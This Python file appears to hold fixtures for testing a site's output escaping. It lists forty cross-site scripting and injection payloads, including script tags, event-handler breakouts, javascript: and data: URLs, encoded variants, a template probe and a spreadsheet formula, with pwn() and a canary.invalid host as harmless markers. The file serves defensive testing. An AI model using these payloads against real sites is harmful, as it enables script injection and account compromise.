"""Forty payloads, which a site is filled with."""

#: Script and markup. `pwn()` tells that one ran, `canary` that one became markup.
MARKUP = [
    "<script>pwn()</script>",
    '"><script>pwn()</script>',
    "'><img canary src onerror=pwn()>",
    "</script><script>pwn()</script>",
    "</title><svg canary onload=pwn()>",
    "</textarea><img canary src onerror=pwn()>",
    "</style><img canary src onerror=pwn()>",
    "</option></select><p canary>",
    "]]><img canary src onerror=pwn()>",
    '" autofocus onfocus=pwn() canary="',
    "' onmouseover=pwn() canary='",
    "` onclick=pwn() canary=`",
    "<svg><script canary>pwn()</script>",
    '<math><mi canary xlink:href="javascript:pwn()">x',
    '<iframe canary srcdoc="<script>parent.pwn()</script>">',
    '<a canary href="javascript:pwn()">x</a>',
    '<a canary href="//canary.invalid">x</a>',
    '<base canary href="//canary.invalid/">',
    "<form canary action=//canary.invalid><button>",
    '<meta canary http-equiv=refresh content="0;//canary.invalid">',
    "<link canary rel=stylesheet href=//canary.invalid>",
    '<object canary data="javascript:pwn()">',
    "<details canary open ontoggle=pwn()>",
    "<video canary src=//canary.invalid onerror=pwn()>",
    '<style canary>@import "//canary.invalid"</style>',
    '<noscript><p title="</noscript><img canary src onerror=pwn()>">',
    "&lt;img canary src onerror=pwn()&gt;",
    "&#60;img canary src onerror=pwn()&#62;",
    r"\u003cimg canary src onerror=pwn()\u003e",
    "%3Cimg canary src onerror=pwn()%3E",
    '{{ 7|add:"canary" }}{% now "Y" %}',
    "';pwn();//",
    "${pwn()}",
    '=HYPERLINK("//canary.invalid")',
    "<!-- <p canary> -->",
]
#: What leads away, or runs, where the whole of it is an address.
ADDRESSES = [
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "data:text/html,<script>pwn()</script>",
    "//canary.invalid/a",
    "https://example.org@canary.invalid/",
]
PAYLOADS = MARKUP + ADDRESSES
